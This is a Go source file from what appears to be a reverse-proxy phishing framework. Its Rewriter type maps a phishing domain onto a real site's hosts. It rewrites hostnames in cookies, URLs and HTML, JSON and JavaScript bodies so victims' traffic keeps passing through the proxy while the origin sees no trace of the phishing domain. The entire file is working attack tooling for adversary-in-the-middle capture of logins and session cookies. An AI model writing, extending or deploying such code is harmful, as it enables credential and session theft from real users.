package core

import (
	"fmt"
	"net/url"
	"regexp"
	"sort"
	"strings"
)

var matchSchemeURLRegexp = regexp.MustCompile(`\bhttps?://(?:[A-Za-z0-9-]{1,63}\.)+[A-Za-z]{2,}(?::\d+)?[^\s"'<>\\]*`)
var matchBareHostRegexp = regexp.MustCompile(`\b(?:[A-Za-z0-9-]{1,63}\.)+[A-Za-z]{2,}\b`)

// autoFilterMimes are the content types that get automatic origin-to-phishing
// hostname substitution on the response path, beyond explicit sub_filters.
var autoFilterMimes = []string{"text/html", "application/json", "application/javascript", "text/javascript", "application/x-javascript"}

type compiledSubFilter struct {
	triggersOn string
	search     *regexp.Regexp
	replace    string
	mimes      []string
}

// Rewriter applies hostname and content substitution for one phishlet bound
// to one phishing domain. It is immutable after construction and safe to
// share across concurrent requests.
type Rewriter struct {
	pl          *Phishlet
	phishDomain string

	phishToOrig map[string]string
	origToPhish map[string]string
	origHosts   []string
	phishHosts  []string

	subFilters []*compiledSubFilter
}

// NewRewriter binds a phishlet to its campaign's phishing domain and compiles
// every sub_filter with its placeholders expanded. A pattern that fails to
// compile aborts campaign activation here, never at request time.
func NewRewriter(pl *Phishlet, phishDomain string) (*Rewriter, error) {
	r := &Rewriter{
		pl:          pl,
		phishDomain: strings.ToLower(phishDomain),
		phishToOrig: make(map[string]string),
		origToPhish: make(map[string]string),
	}

	for _, ph := range pl.proxyHosts {
		phishHost := combineHost(ph.PhishSub, r.phishDomain)
		origHost := combineHost(ph.OrigSub, ph.Domain)
		r.phishToOrig[phishHost] = origHost
		r.origToPhish[origHost] = phishHost
		r.origHosts = append(r.origHosts, origHost)
		r.phishHosts = append(r.phishHosts, phishHost)
	}
	// bare domain maps back to the phishing domain too, in headers and bodies
	bare := strings.ToLower(pl.LandingHost().Domain)
	if _, ok := r.origToPhish[bare]; !ok {
		r.origToPhish[bare] = r.phishDomain
		r.origHosts = append(r.origHosts, bare)
	}

	// replace longest hostnames first so subdomain hosts don't get clobbered
	// by their parent domain
	sort.Slice(r.origHosts, func(i, j int) bool { return len(r.origHosts[i]) > len(r.origHosts[j]) })
	sort.Slice(r.phishHosts, func(i, j int) bool { return len(r.phishHosts[i]) > len(r.phishHosts[j]) })

	for i, sf := range pl.subFilters {
		origHost := combineHost(sf.OrigSub, sf.Domain)
		phishHost := origHost
		if h, ok := r.origToPhish[origHost]; ok {
			phishHost = h
		}
		phishSub := strings.TrimSuffix(strings.TrimSuffix(phishHost, r.phishDomain), ".")

		search := sf.Search
		search = strings.ReplaceAll(search, "{hostname}", regexp.QuoteMeta(origHost))
		search = strings.ReplaceAll(search, "{subdomain}", regexp.QuoteMeta(sf.OrigSub))
		search = strings.ReplaceAll(search, "{domain}", regexp.QuoteMeta(sf.Domain))

		replace := sf.Replace
		replace = strings.ReplaceAll(replace, "{hostname}", phishHost)
		replace = strings.ReplaceAll(replace, "{subdomain}", phishSub)
		replace = strings.ReplaceAll(replace, "{domain}", r.phishDomain)

		re, err := regexp.Compile(search)
		if err != nil {
			return nil, fmt.Errorf("sub_filters[%d]: search pattern does not compile: %v", i, err)
		}
		r.subFilters = append(r.subFilters, &compiledSubFilter{
			triggersOn: strings.ToLower(sf.TriggersOn),
			search:     re,
			replace:    replace,
			mimes:      sf.Mimes,
		})
	}

	return r, nil
}

func (r *Rewriter) PhishDomain() string {
	return r.phishDomain
}

// PhishToOrig maps a phishing hostname to the origin host it fronts.
// Leading dots (cookie domains) are preserved.
func (r *Rewriter) PhishToOrig(hostname string) (string, bool) {
	return replaceHost(hostname, r.phishToOrig)
}

// OrigToPhish maps an origin hostname back to its phishing hostname.
func (r *Rewriter) OrigToPhish(hostname string) (string, bool) {
	return replaceHost(hostname, r.origToPhish)
}

func replaceHost(hostname string, m map[string]string) (string, bool) {
	if hostname == "" {
		return hostname, false
	}
	prefix := ""
	if hostname[0] == '.' {
		prefix = "."
		hostname = hostname[1:]
	}
	if h, ok := m[strings.ToLower(hostname)]; ok {
		return prefix + h, true
	}
	return prefix + hostname, false
}

// PatchToOrig replaces phishing hostnames embedded in request content with
// the origin hostnames, so the origin never sees the phishing domain.
func (r *Rewriter) PatchToOrig(body []byte) []byte {
	return r.patchHosts(body, r.phishHosts, r.phishToOrig)
}

// PatchToPhish replaces origin hostnames in response content with the
// phishing hostnames so every followup request loops back through the proxy.
func (r *Rewriter) PatchToPhish(body []byte) []byte {
	return r.patchHosts(body, r.origHosts, r.origToPhish)
}

func (r *Rewriter) patchHosts(body []byte, hosts []string, m map[string]string) []byte {
	s := string(body)
	s = matchSchemeURLRegexp.ReplaceAllStringFunc(s, func(sURL string) string {
		u, err := url.Parse(sURL)
		if err != nil {
			return sURL
		}
		for _, h := range hosts {
			if strings.EqualFold(u.Host, h) {
				return strings.Replace(sURL, u.Host, m[h], 1)
			}
		}
		return sURL
	})
	s = matchBareHostRegexp.ReplaceAllStringFunc(s, func(host string) string {
		lh := strings.ToLower(host)
		for _, h := range hosts {
			if lh == h {
				return m[h]
			}
		}
		return host
	})
	return []byte(s)
}

// RewriteResponseBody applies every sub_filter triggered by the origin host
// and content type, in declaration order, then patches any remaining origin
// hostnames for the auto-filtered content types. Content types outside the
// declared mimes pass through unmodified.
func (r *Rewriter) RewriteResponseBody(origHost string, mime string, body []byte) []byte {
	origHost = strings.ToLower(origHost)
	for _, sf := range r.subFilters {
		if sf.triggersOn != origHost {
			continue
		}
		if !stringExists(mime, sf.mimes) {
			continue
		}
		body = []byte(sf.search.ReplaceAllString(string(body), sf.replace))
	}
	if stringExists(mime, autoFilterMimes) {
		body = r.PatchToPhish(body)
	}
	return body
}
